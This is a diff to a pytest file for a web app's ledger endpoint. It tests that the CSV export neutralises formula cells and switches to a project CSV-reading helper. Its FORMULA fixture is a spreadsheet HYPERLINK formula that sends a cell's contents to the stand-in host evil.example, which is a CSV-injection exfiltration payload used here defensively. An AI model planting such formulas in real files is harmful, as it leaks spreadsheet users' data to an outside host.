@@ -1,12 +1,12 @@
 """Issue 12 at the desk (R-UNRES-2): its ledger refuses periods outside 2000..2099 (the year 9999
 overflowed into a 500), and its CSV neutralises cells a spreadsheet would run as formulas."""
 
-import csv
-import io
 from datetime import date
 
 import pytest
 from desk_calls import OFFICE, extend, hall_time, register
+
+from web_api.csv_cells import read_with_headings
 
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
 
@@ -27,7 +27,7 @@ def test_r_unres_2_cells_typed_as_formulas_come_out_as_text_in_the_ledger_csv(co
     item = register(web_session, item=FORMULA, reason="+86 转 @办公室 -- 三次往返未办成")
     answer = web_session.get("/desk/ledger?from=2026-11-23&to=2026-11-23&format=csv", headers=OFFICE)
     assert answer.status_code == 200, answer.text
-    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    _, [row] = read_with_headings(answer.content.decode("utf-8"))
     assert (row["item_no"], row["item"]) == (item["item_no"], "'" + FORMULA)
     assert row["at"].startswith("2026-11-23") and row["details"].startswith("{")
 
